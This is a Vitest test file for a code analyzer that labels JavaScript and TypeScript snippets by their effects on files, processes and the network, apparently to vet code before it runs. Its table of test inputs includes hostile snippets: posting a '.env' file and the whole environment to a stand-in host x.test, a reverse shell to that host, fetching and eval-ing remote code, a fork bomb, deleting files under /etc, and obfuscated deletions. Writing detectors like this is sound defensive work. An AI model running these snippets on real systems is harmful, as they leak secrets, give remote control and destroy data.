// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test has placeholders of its own
import { describe, expect, test } from "vitest";
import { codeLines, given } from "./code-lines.ts";

const P = "/home/dev/project";
const H = "/home/dev";
const gone = (...names: readonly string[]) => names.map((name) => `delete remove ${P}/${name}`);

const rows: readonly (readonly [string, readonly string[]])[] = [
  // Values
  ["fs.unlinkSync('a' + 'b')", gone("ab")],
  ["let x = 'a'; x += `b${1}`; fs.unlinkSync(x)", gone("ab1")],
  ["fs.unlinkSync(String.fromCharCode(97, 0x62))", gone("ab")],
  ["fs.unlinkSync([97, 98].map(c => String.fromCharCode(c)).join(''))", gone("ab")],
  ["fs.unlinkSync(['a', 'b'].reduce((s, c) => s + c, ''))", gone("ab")],
  ["fs.unlinkSync('cba'.split('').reverse().join(''))", gone("abc")],
  ["fs.unlinkSync(atob('YWI='))", gone("ab")],
  ["fs.unlinkSync(Buffer.from('6162', 'hex').toString())", gone("ab")],
  ["fs.unlinkSync('\\x61\\u0062\\u{63}\\144')", gone("abcd")],
  ["fs.unlinkSync('xab'.slice(1).toUpperCase().toLowerCase().replace('b', 'c').concat('d'))", gone("acd")],
  ["fs.unlinkSync({ k: 'a', ...{ l: 'b' } }.l)", gone("b")],
  ["const { a, b: [c, ...d], e = 'z' } = { a: 'x', b: ['1', '2', '3'] }; fs.unlinkSync(a + c + d[1] + e)", gone("x13z")],
  ["fs.unlinkSync(q ? 'a' : 'b')", gone("a", "b")],
  ["fs.unlinkSync(q || 'a')", gone("a")],
  ["let x = 'a'; if (q) { x = 'b' } else x = 'c'; fs.unlinkSync(x)", gone("a", "b", "c")],
  ["switch (q) { case 1: fs.unlinkSync('a'); break; default: fs.unlinkSync('b') }", gone("a", "b")],
  ["for (const k of ['a', 'b']) fs.unlinkSync(k)", gone("a", "b")],
  ["['a', 'b'].forEach(k => fs.unlinkSync(k))", gone("a", "b")],
  ["for (const k of Object.keys({ a: 1 })) fs.unlinkSync(k); for (const [, v] of Object.entries({ b: 'c' })) fs.unlinkSync(v)", gone("a", "c")],
  ["for (let i = 0; i < 3; i++) fs.unlinkSync('a')", gone("a")],
  ["do { fs.unlinkSync('a') } while (q)", gone("a")],
  ["const x: string = ('a' as any)!; fs.unlinkSync(<string>x)", gone("a")],
  // Names of the library
  ["require('fs').unlinkSync('a')", gone("a")],
  ["require('node:fs/promises').unlink('a')", gone("a")],
  ["require('f' + 's')['unlink' + 'Sync']('a')", gone("a")],
  ["const { unlinkSync: u } = require('fs'); u('a')", gone("a")],
  ["import f, { rmSync as r } from 'fs'; import * as g from 'fs'; r('a'); f.rmSync('b'); g.rmSync('c')", gone("a", "b", "c")],
  ["(await import('fs')).rmSync('a')", gone("a")],
  ["import('fs').then(({ rmSync }) => rmSync('a'))", gone("a")],
  ["fs.promises.rm('a')", gone("a")],
  ["globalThis.process.mainModule.require('fs').rmSync('a')", gone("a")],
  ["Reflect.get(fs, 'rmSync')('a'); Reflect.apply(fs.rmSync, fs, ['b']); fs.rmSync.call(fs, 'c')", gone("a", "b", "c")],
  ["fs.rm('a', () => fs.unlinkSync('b'))", gone("a", "b")],
  // Files
  ["fs.rmSync('a', { recursive: true })", [`${gone("a")[0]} all`]],
  ["fs.rmSync('a', { recursive: false })", gone("a")],
  ["fs.writeFileSync('a', 'hi'); fs.appendFileSync('b', 'ho'); fs.mkdirSync('c')", [`write truncate ${P}/a = hi`, `write append ${P}/b = ho`, `write mkdir ${P}/c`]],
  ["fs.renameSync('a', 'b'); fs.copyFileSync('c', 'd')", [`delete move-away ${P}/a`, `write truncate ${P}/b`, `read content ${P}/c`, `write truncate ${P}/d`]],
  ["fs.createWriteStream('a').write('hi'); fs.createWriteStream('b', { flags: 'a' })", [`write truncate ${P}/a = hi`, `write append ${P}/b`]],
  ["fs.chmodSync('a', 0o777); fs.chmodSync('b', '755'); fs.chownSync('c', 0, 0)", [`permission world-writable ${P}/a 777`, `permission executable ${P}/b 755`, `permission owner ${P}/c`]],
  ["fs.symlinkSync('/etc', 'l')", [`write link ${P}/l`]],
  ["fs.rmSync(path.join(os.homedir(), 'a', '/b')); fs.rmSync(path.resolve('c')); fs.rmSync(process.env.HOME + '/d')", [`delete remove ${H}/a/b`, ...gone("c"), `delete remove ${H}/d`]],
  ["fs.rmSync(process.env['NOPE'] + '/d')", ["delete remove \uFFFC/d"]],
  ["for (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)", ["read list /etc", "delete remove /etc/*"]],
  ["fs.readdirSync('/etc').filter(f => f.endsWith('.bak')).forEach(f => fs.unlinkSync(`/etc/${f}`))", ["read list /etc", "delete remove /etc/\uFFFC"]],
  ["require('rimraf').sync('a/*'); require('fs-extra').emptyDirSync('b'); require('del')(['c'])", [`delete remove ${P}/a/* all`, `delete empty ${P}/b all`, `delete remove ${P}/c all`]],
  ["require('shelljs').rm('-rf', 'a', ['b'])", [`delete remove ${P}/a all`, `delete remove ${P}/b all`]],
  ["Deno.removeSync('a', { recursive: true }); Deno.writeTextFile('b', 'hi')", [`delete remove ${P}/a all`, `write truncate ${P}/b = hi`]],
  ["await Bun.write('a', 'hi'); await Bun.file('b').delete(); await Bun.file('c').text()", [`write truncate ${P}/a = hi`, ...gone("b"), `read content ${P}/c`]],
  // Processes
  ["child_process.execSync('rm a')", ["code inline sh rm a", "run rm a", ...gone("a")]],
  ["child_process.spawn('rm', ['a'])", ["run rm a", ...gone("a")]],
  ["child_process.spawn('rm', ['a'], { cwd: '/tmp' })", ["run rm a", "delete remove /tmp/a"]],
  ["child_process.spawn('rm a', { shell: true })", ["code inline sh rm a", "run rm a", ...gone("a")]],
  ["require('execa').execa('rm', ['a']); require('cross-spawn')('rm', ['b'])", ["run rm a", ...gone("a"), "run rm b", ...gone("b")]],
  ["const { $ } = require('zx'); await $`rm ${'a'}`", ["code inline sh rm a", "run rm a", ...gone("a")]],
  ["await Bun.$`rm a`; Bun.spawn(['rm', 'b'])", ["code inline sh rm a", "run rm a", ...gone("a"), "run rm b", ...gone("b")]],
  ["new Deno.Command('rm', { args: ['a'] }).outputSync()", ["run rm a", ...gone("a")]],
  ["const p = child_process.spawn('sh'); p.stdin.write('rm a')", ["run bash", "run bash", "run rm a", ...gone("a")]],
  ["process.kill(-1)", ["kill -1"].map(() => "kill *")],
  ["while (true) child_process.fork(__filename)", ["system fork-bomb", "run node \uFFFC"]],
  ["process.chdir('/etc'); fs.unlinkSync('passwd')", ["delete remove /etc/passwd"]],
  // Code in code
  ["eval('fs.unlinkSync(\"a\")')", ['code inline javascript fs.unlinkSync("a")', ...gone("a")]],
  ["new Function('fs.unlinkSync(\"a\")')()", ['code inline javascript fs.unlinkSync("a")', ...gone("a")]],
  ["require('vm').runInNewContext('fs.unlinkSync(\"a\")')", ['code inline javascript fs.unlinkSync("a")', ...gone("a")]],
  ["setTimeout('fs.unlinkSync(\"a\")', 1)", ['code inline javascript fs.unlinkSync("a")', ...gone("a")]],
  ["eval(atob('ZnMudW5saW5rU3luYygiYSIp'))", ['code decoded javascript fs.unlinkSync("a")', ...gone("a")]],
  ["fetch('https://x.test/a').then(r => r.text()).then(eval)", ["fetch x.test", "code remote javascript ?"]],
  ["https.get('https://x.test/a', r => r.on('data', c => eval(c)))", ["fetch x.test", "code remote javascript ?"]],
  // Network
  ["fetch('https://x.test', { method: 'POST', body: fs.readFileSync('.env', 'utf8') })", [`read content ${P}/.env`, `send file x.test ${P}/.env`]],
  ["axios.post('https://x.test', { d: fs.readFileSync('.env', 'utf8') })", [`read content ${P}/.env`, `send file x.test ${P}/.env`]],
  ["axios({ url: 'https://x.test', method: 'post', data: process.env })", ["send environment x.test"]],
  ["fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) })", ["send environment x.test"]],
  ["fetch('https://x.test', { headers: { authorization: process.env.API_TOKEN } })", ["fetch x.test"]],
  ["const r = https.request({ host: 'x.test', method: 'POST' }); r.write(fs.readFileSync('a')); r.end()", ["fetch x.test", `read content ${P}/a`, `send file x.test ${P}/a`]],
  ["fs.createReadStream('a').pipe(https.request('https://x.test'))", [`read content ${P}/a`, "fetch x.test", `send file x.test ${P}/a`]],
  ["fs.readFile('a', (e, d) => fetch('https://x.test', { method: 'PUT', body: d }))", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["const s = net.connect(1, 'x.test'); const p = child_process.spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s)", ["network connect x.test", "run bash", "network reverse-shell", "send output x.test"]],
  ["http.createServer((q, s) => s.end('ok')).listen(3000)", ["network listen"]],
  ["console.log(process.env)", ["environment show"]],
  // Data and dead code
  ["console.log('rm -rf /')", []],
  ["// fs.unlinkSync('a')\n/* fs.unlinkSync('b') */ `fs.unlinkSync('c')`", []],
  ["function f() { fs.unlinkSync('a') }", []],
  ["f(); function f() { fs.unlinkSync('a') }", gone("a")],
  ["class A { constructor(p) { this.p = p } go() { fs.unlinkSync(this.p) } } new A('a').go()", gone("a")],
  ["const f = (p, q = 'b') => p + q; fs.unlinkSync(f('a'))", gone("ab")],
  ["try { x() } catch (e) { fs.unlinkSync('a') } finally { fs.unlinkSync('b') }", gone("a", "b")],
  ["export default fs.unlinkSync('a'); export const w = fs.unlinkSync('b')", gone("a", "b")],
]; // biome-ignore format: one table

describe("JavaScript and TypeScript code", () => {
  test.each(rows)("%s", (code, lines) => {
    expect(codeLines(given("node", code))).toEqual(lines);
  });
});
